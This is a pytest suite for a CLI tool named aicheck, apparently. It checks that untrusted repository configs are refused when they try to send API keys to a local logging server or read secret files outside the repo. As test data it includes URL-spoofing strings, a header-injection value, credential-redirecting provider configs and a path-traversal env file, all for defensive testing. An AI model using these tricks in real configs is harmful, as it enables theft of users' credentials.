"""The trust boundary, played by an attacker: a repository's own config tries to send the user's
keys to a host of its choosing (a logging server on 127.0.0.1) or to read files outside the
repository. aicheck must refuse (exit 2, naming `aicheck trust`) with the server receiving
nothing; once the user trusts that exact file, the same config works."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.keygen import ALNUM, rand

SMOKE = '\n[[smoke]]\nname = "pong"\nprompt = "Say pong"\nexpect = { icontains = "pong" }\n'
CHAT_ANSWER = {
    "id": "chatcmpl-1", "object": "chat.completion", "model": "gpt-4o-mini",
    "choices": [{"index": 0, "message": {"role": "assistant", "content": "pong"}, "finish_reason": "stop"}],
    "usage": {"prompt_tokens": 5, "completion_tokens": 1, "total_tokens": 6},
}


class Logger:
    """An HTTP server on 127.0.0.1 that records every request and answers like an
    OpenAI-compatible API (a model list, a chat completion)."""

    def __init__(self) -> None:
        self.received: list[tuple[str, str, dict[str, str]]] = []
        logger = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                length = int(self.headers.get("content-length") or 0)
                self.rfile.read(length)
                logger.received.append((self.command, self.path, {k.lower(): v for k, v in self.headers.items()}))
                body = json.dumps(CHAT_ANSWER if self.path.endswith("/chat/completions") else {"object": "list", "data": []}).encode()
                self.send_response(200)
                self.send_header("content-type", "application/json")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _answer

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"


@pytest.fixture
def logger() -> Iterator[Logger]:
    server = Logger()
    server.thread.start()
    yield server
    server.server.shutdown()
    server.server.server_close()


@pytest.fixture
def secrets_env() -> dict[str, str]:
    return {
        "OPENAI_API_KEY": "sk-proj-" + rand(74),
        "GITHUB_TOKEN": "ghp_" + rand(36),
        "AWS_SECRET_ACCESS_KEY": rand(40, ALNUM + "/+"),
    }


def run(cwd: Path, *args: str, env: dict[str, str] | None = None, stdin: str = "") -> subprocess.CompletedProcess[str]:
    keep = {k: v for k, v in os.environ.items() if not k.lower().endswith("_proxy") and not k.startswith(("AICHECK_", "OPENAI", "GITHUB"))}
    return subprocess.run([sys.executable, "-m", "aicheck", *args], cwd=cwd, env={**keep, "NO_COLOR": "1", **(env or {})},
                          input=stdin, capture_output=True, text=True, timeout=60)


def refused(out: subprocess.CompletedProcess[str], logger: Logger, setting: str) -> None:
    assert out.returncode == 2, (out.stdout, out.stderr)
    assert "aicheck trust" in out.stderr and setting in out.stderr
    assert len(out.stderr.strip().splitlines()) == 1, out.stderr
    assert logger.received == []


def leaked(logger: Logger, *secrets: str) -> bool:
    text = json.dumps(logger.received)
    return any(secret in text for secret in secrets)


# --- the four attacks of the issue, and their variants ---------------------------------------------

VALIDATE = ("keys", "validate", "--from-env")


@pytest.mark.parametrize("url", [
    "{url}",                                   # plain
    "HTTP://127.0.0.1:{port}/v1",              # upper case
    "http://LOCALHOST.:{port}/v1",             # a trailing dot
    "http://localhost:{port}/v1",
    "https://api.openai.com.127.0.0.1.nip.io:{port}/v1",  # looks like the official host
])
def test_base_url_override_is_refused_then_trusted(repo: Path, logger: Logger, secrets_env: dict[str, str], url: str) -> None:
    target = url.format(url=logger.url, port=logger.port)
    (repo / "aicheck.toml").write_text(f'[providers.openai]\nbase_url = "{target}"\n')
    refused(run(repo, *VALIDATE, env=secrets_env), logger, "[providers.openai] base_url")
    if "nip.io" in target or "LOCALHOST." in target:
        return  # a host this test machine may not reach (DNS); refusing it is the point
    trusted = run(repo, "trust", "--yes")
    assert trusted.returncode == 0 and "trusted" in trusted.stdout, trusted.stderr
    out = run(repo, *VALIDATE, env=secrets_env)
    assert out.returncode == 0, out.stderr
    assert [path for _, path, _ in logger.received] == ["/v1/models"]
    assert not leaked(logger, secrets_env["GITHUB_TOKEN"], secrets_env["AWS_SECRET_ACCESS_KEY"])


def test_userinfo_tricks_are_refused_even_when_trusted(repo: Path, logger: Logger, secrets_env: dict[str, str]) -> None:
    url = "https://api.openai.com@127.0.0.1:{port}/v1"
    (repo / "aicheck.toml").write_text(f'[providers.openai]\nbase_url = "{url.format(port=logger.port)}"\n')
    refused(run(repo, *VALIDATE, env=secrets_env), logger, "[providers.openai] base_url")
    assert run(repo, "trust", "--yes").returncode == 0
    out = run(repo, *VALIDATE, env=secrets_env)
    assert out.returncode == 2 and "user name or password" in out.stderr, out.stderr
    assert logger.received == []


@pytest.mark.parametrize("url", [
    "http://api.openai.com:443@127.0.0.1:9/v1",
    "http://127.0.0.1:9\\@api.openai.com/v1",
    "https://api.openai.com\\@127.0.0.1/v1",
    "https://api.openai.com%40127.0.0.1/v1",
    "https://api.openai.com\t.evil/v1",
    "https://api.openai.com.evil.example/v1",
    "https://api.openai.com:8443/v1",
])
def test_url_tricks_are_never_the_official_host_and_never_sent(url: str) -> None:
    from aicheck.errors import AicheckError
    from aicheck.trust import official
    from aicheck.validate.endpoints import checked

    assert not official("openai", url)
    if "evil.example" in url or "8443" in url or "%40" in url:
        return  # well-formed https URLs of another host: refused by trust, fine once trusted
    with pytest.raises(AicheckError):
        checked(url, "[providers.openai] base_url")


def test_plain_http_to_another_host_is_refused_even_when_trusted(repo: Path, logger: Logger, secrets_env: dict[str, str]) -> None:
    (repo / "aicheck.toml").write_text('[providers.openai]\nbase_url = "http://api.openai.com/v1"\n')
    refused(run(repo, *VALIDATE, env=secrets_env), logger, "[providers.openai] base_url")
    assert run(repo, "trust", "--yes").returncode == 0
    out = run(repo, *VALIDATE, env=secrets_env)
    assert out.returncode == 2 and "plain http only to this machine" in out.stderr


def test_official_https_host_needs_no_trust(repo: Path) -> None:
    (repo / "aicheck.toml").write_text('[providers.openai]\nbase_url = "https://API.openai.com./v1/"\n')
    out = run(repo, "trust", "--json")
    assert json.loads(out.stdout)["risks"] == []


def test_custom_provider_reading_other_credentials_is_refused(repo: Path, logger: Logger, secrets_env: dict[str, str]) -> None:
    (repo / "aicheck.toml").write_text(
        f'[providers.evil]\nbase_url = "{logger.url}"\nenv_vars = ["GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY"]\n'
    )
    refused(run(repo, *VALIDATE, env=secrets_env), logger, "[providers.evil]")
    assert run(repo, "trust", stdin="y\n").returncode == 0  # confirmed on stdin
    env = {name: value for name, value in secrets_env.items() if name != "OPENAI_API_KEY"}  # no real provider is called
    out = run(repo, *VALIDATE, env=env)
    assert out.returncode == 0 and leaked(logger, secrets_env["GITHUB_TOKEN"])  # what the user agreed to


def test_builtin_provider_with_a_foreign_variable_is_refused(repo: Path, logger: Logger, secrets_env: dict[str, str]) -> None:
    (repo / "aicheck.toml").write_text('[providers.openai]\nenv_vars = ["GITHUB_TOKEN"]\n')
    env = {**secrets_env, "AICHECK_OPENAI_BASE_URL": logger.url}
    refused(run(repo, *VALIDATE, env=env), logger, "[providers.openai] env_vars")


@pytest.mark.parametrize("command", [("smoke",), ("report", "--skip", "scan")])
def test_chain_key_env_of_another_credential_is_refused(repo: Path, logger: Logger, secrets_env: dict[str, str], command: tuple[str, ...]) -> None:
    (repo / "aicheck.toml").write_text('[[chain]]\nprovider = "openai"\nmodel = "gpt-4o-mini"\nkey_env = "GITHUB_TOKEN"\n' + SMOKE)
    env = {**secrets_env, "AICHECK_OPENAI_BASE_URL": logger.url}  # the user's own gateway: trusted
    refused(run(repo, *command, env=env), logger, "[[chain]] #1 key_env")
    assert run(repo, "trust", "--yes").returncode == 0
    out = run(repo, *command, env=env)
    assert out.returncode in (0, 1), out.stderr
    assert leaked(logger, secrets_env["GITHUB_TOKEN"])


def test_chain_key_env_of_the_provider_is_fine(repo: Path, logger: Logger, secrets_env: dict[str, str]) -> None:
    (repo / "aicheck.toml").write_text('[[chain]]\nprovider = "openai"\nmodel = "gpt-4o-mini"\nkey_env = "OPENAI_API_KEY"\n' + SMOKE)
    out = run(repo, "smoke", env={**secrets_env, "AICHECK_OPENAI_BASE_URL": logger.url})
    assert out.returncode == 0, out.stderr
    assert leaked(logger, secrets_env["OPENAI_API_KEY"]) and not leaked(logger, secrets_env["GITHUB_TOKEN"])
    assert f"127.0.0.1:{logger.port}" in out.stdout  # the target host is shown


def test_chain_base_url_is_refused(repo: Path, logger: Logger, secrets_env: dict[str, str]) -> None:
    (repo / "aicheck.toml").write_text(f'[[chain]]\nprovider = "openai"\nmodel = "gpt-4o-mini"\nbase_url = "{logger.url}"\n' + SMOKE)
    refused(run(repo, "smoke", env=secrets_env), logger, "[[chain]] #1 base_url")


def _outside_secret(repo: Path, key: str) -> Path:
    outside = repo.parent / "outside"
    outside.mkdir()
    (outside / "secret.env").write_text(f"OPENAI_API_KEY={key}\n")
    return outside / "secret.env"


def test_env_files_outside_the_repository_are_refused(repo: Path, logger: Logger, secrets_env: dict[str, str]) -> None:
    key = secrets_env["OPENAI_API_KEY"]
    _outside_secret(repo, key)
    (repo / "aicheck.toml").write_text('[env]\nfiles = ["../outside/secret.env"]\n')
    env = {"AICHECK_OPENAI_BASE_URL": logger.url}
    refused(run(repo, "report", env=env), logger, "[env] files")
    refused(run(repo, "env", "check", env=env), logger, "[env] files")
    assert run(repo, "trust", "--yes").returncode == 0
    run(repo, "report", env=env)
    assert leaked(logger, key)


@pytest.mark.parametrize("config", ["", '[scan]\nexclude = ["x"]\n'])
def test_symlinked_env_file_pointing_outside_is_refused(repo: Path, logger: Logger, secrets_env: dict[str, str], config: str) -> None:
    key = secrets_env["OPENAI_API_KEY"]
    (repo / ".env").symlink_to(_outside_secret(repo, key))
    if config:
        (repo / "aicheck.toml").write_text(config)
    env = {"AICHECK_OPENAI_BASE_URL": logger.url}
    for command in (("report",), ("env", "check")):
        out = run(repo, *command, env=env)
        assert out.returncode == 2 and "resolves outside the repository" in out.stderr and "aicheck trust" in out.stderr
    assert logger.received == []


def test_config_flag_naming_a_repository_file_is_untrusted(repo: Path, logger: Logger, secrets_env: dict[str, str]) -> None:
    (repo / "ci").mkdir()
    (repo / "ci" / "aicheck.toml").write_text(f'[providers.openai]\nbase_url = "{logger.url}"\n')
    refused(run(repo, *VALIDATE, "--config", "ci/aicheck.toml", env=secrets_env), logger, "[providers.openai] base_url")
    assert run(repo, "trust", "--yes", "--config", "ci/aicheck.toml").returncode == 0
    assert run(repo, *VALIDATE, "--config", "ci/aicheck.toml", env=secrets_env).returncode == 0
    assert logger.received


def test_pyproject_settings_are_untrusted_too(repo: Path, logger: Logger, secrets_env: dict[str, str]) -> None:
    (repo / "pyproject.toml").write_text(f'[project]\nname = "x"\n\n[tool.aicheck.providers.openai]\nbase_url = "{logger.url}"\n')
    refused(run(repo, *VALIDATE, env=secrets_env), logger, "[providers.openai] base_url")


def test_scan_verify_is_refused_too(repo: Path, logger: Logger) -> None:
    key = "sk-proj-" + rand(74)
    (repo / "app.py").write_text(f'OPENAI_API_KEY = "{key}"\n')
    (repo / "aicheck.toml").write_text(f'[providers.openai]\nbase_url = "{logger.url}"\n')
    refused(run(repo, "scan", "--verify"), logger, "[providers.openai] base_url")
    assert run(repo, "scan").returncode == 1  # a plain scan sends nothing: it needs no trust


# --- trusting ---------------------------------------------------------------------------------------


def test_any_edit_untrusts(repo: Path, logger: Logger, secrets_env: dict[str, str]) -> None:
    config = repo / "aicheck.toml"
    config.write_text(f'[providers.openai]\nbase_url = "{logger.url}"\n')
    assert run(repo, "trust", "--yes").returncode == 0
    config.write_text(f'[providers.openai]\nbase_url = "{logger.url}"\n# one more line\n')
    refused(run(repo, *VALIDATE, env=secrets_env), logger, "[providers.openai] base_url")
    listed = run(repo, "trust", "--list")
    assert "changed since: not trusted" in listed.stdout


def test_trust_shows_what_the_config_does_and_can_be_declined(repo: Path, logger: Logger) -> None:
    (repo / "aicheck.toml").write_text(f'[[chain]]\nprovider = "openai"\nmodel = "m"\nkey_env = "GITHUB_TOKEN"\nbase_url = "{logger.url}"\n')
    out = run(repo, "trust", stdin="n\n")
    assert out.returncode == 1 and "not trusted" in out.stderr
    assert f"openai: {logger.url}" in out.stdout and "GITHUB_TOKEN" in out.stdout
    assert "[[chain]] #1 key_env" in out.stdout
    assert "trusted" not in run(repo, "trust", "--list").stdout.replace("No trusted", "")


def test_revoke(repo: Path, logger: Logger, secrets_env: dict[str, str]) -> None:
    (repo / "aicheck.toml").write_text(f'[providers.openai]\nbase_url = "{logger.url}"\n')
    assert run(repo, "trust", "--yes").returncode == 0
    assert "no longer trusted" in run(repo, "trust", "--revoke").stdout
    refused(run(repo, *VALIDATE, env=secrets_env), logger, "[providers.openai] base_url")


def test_the_records_live_in_the_user_config_folder(repo: Path, tmp_path: Path) -> None:
    (repo / "aicheck.toml").write_text('[providers.mygw]\nbase_url = "https://gw.example/v1"\n')
    folder = tmp_path / "xdg"
    assert run(repo, "trust", "--yes", env={"XDG_CONFIG_HOME": str(folder)}).returncode == 0
    records = json.loads((folder / "aicheck" / "trusted.json").read_text())
    assert records["trusted"][0]["path"] == str((repo / "aicheck.toml").resolve())
    assert not list(repo.glob("**/trusted.json"))


def test_a_config_in_the_user_folder_is_trusted(repo: Path, logger: Logger, secrets_env: dict[str, str], tmp_path: Path) -> None:
    folder = tmp_path / "xdg" / "aicheck"
    folder.mkdir(parents=True)
    (folder / "gateway.toml").write_text(f'[providers.openai]\nbase_url = "{logger.url}"\n')
    env = {**secrets_env, "XDG_CONFIG_HOME": str(tmp_path / "xdg")}
    out = run(repo, *VALIDATE, "--config", str(folder / "gateway.toml"), env=env)
    assert out.returncode == 0, out.stderr
    assert logger.received


def test_environment_base_url_is_trusted_and_shown(repo: Path, logger: Logger, secrets_env: dict[str, str]) -> None:
    out = run(repo, *VALIDATE, env={**secrets_env, "AICHECK_OPENAI_BASE_URL": logger.url})
    assert out.returncode == 0, out.stderr
    assert f"127.0.0.1:{logger.port}" in out.stdout


@pytest.mark.parametrize("value", ["{url}\r\nX-Evil: 1", "{url}\n"])
def test_line_breaks_in_a_base_url_variable_are_an_error(repo: Path, logger: Logger, secrets_env: dict[str, str], value: str) -> None:
    out = run(repo, *VALIDATE, env={**secrets_env, "AICHECK_OPENAI_BASE_URL": value.format(url=logger.url)})
    assert out.returncode == 2 and "line break" in out.stderr and len(out.stderr.strip().splitlines()) == 1
    assert logger.received == []


def test_only_the_transport_module_builds_requests() -> None:
    """Structural: one module knows the host, scheme and redirect rules; no other builds a client
    or a request, so a new provider or feature cannot reopen a leak."""
    import aicheck

    package = Path(aicheck.__file__).parent
    offenders = [
        str(path.relative_to(package)) for path in package.rglob("*.py")
        if path.name != "transport.py" and any(word in path.read_text() for word in ("AsyncClient(", "httpx.Client(", "build_request(", "follow_redirects=True"))
    ]
    assert offenders == []


def test_prices_below_the_catalog_need_trust(repo: Path, logger: Logger, secrets_env: dict[str, str]) -> None:
    """A repository cannot make the budget blind by pricing a model at zero."""
    (repo / "aicheck.toml").write_text(
        '[providers.openai.prices]\n"gpt-4o-mini" = { input = 0, output = 0 }\n'
        '[[chain]]\nprovider = "openai"\nmodel = "gpt-4o-mini"\n' + SMOKE
    )
    refused(run(repo, "smoke", env={**secrets_env, "AICHECK_OPENAI_BASE_URL": logger.url}), logger, "[providers.openai] prices")


def test_a_budget_above_the_default_needs_trust(repo: Path, logger: Logger, secrets_env: dict[str, str]) -> None:
    (repo / "aicheck.toml").write_text('[[chain]]\nprovider = "openai"\nmodel = "gpt-4o-mini"\n[budget]\nper_day_usd = 500\n' + SMOKE)
    refused(run(repo, "smoke", env={**secrets_env, "AICHECK_OPENAI_BASE_URL": logger.url}), logger, "[budget] per_day_usd")
    (repo / "aicheck.toml").write_text('[[chain]]\nprovider = "openai"\nmodel = "gpt-4o-mini"\n[budget]\nper_day_usd = 0.5\n' + SMOKE)
    assert run(repo, "smoke", env={**secrets_env, "AICHECK_OPENAI_BASE_URL": logger.url}).returncode == 0
